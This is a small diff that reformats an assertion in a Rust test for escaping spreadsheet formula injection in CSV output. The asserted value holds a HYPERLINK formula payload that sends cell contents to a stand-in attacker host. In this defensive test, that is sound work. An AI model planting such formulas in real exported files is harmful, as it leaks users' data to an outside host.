@@ -79,7 +79,10 @@ mod tests {
         for row in &cells[..6] {
             assert!(row[0].starts_with('\''), "{row:?}");
         }
-        assert_eq!(cells[0][0], "'=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")");
+        assert_eq!(
+            cells[0][0],
+            "'=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")"
+        );
         assert_eq!(cells[6], ["Zoë O'Neil", "'-"]);
         assert_eq!(cells[7], ["Ana", "A-1"]);
     }
